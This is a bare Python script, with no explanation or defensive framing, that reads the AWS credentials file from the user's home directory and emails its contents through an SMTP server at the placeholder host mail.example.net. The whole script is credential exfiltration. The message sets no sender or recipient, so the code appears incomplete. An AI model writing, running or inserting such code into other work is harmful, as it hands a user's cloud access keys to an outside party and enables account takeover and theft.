import smtplib
from email.message import EmailMessage
from pathlib import Path
message = EmailMessage()
message.set_content(Path.home().joinpath(".aws", "credentials").read_text())
with smtplib.SMTP("mail.example.net", 587) as server:
    server.send_message(message)
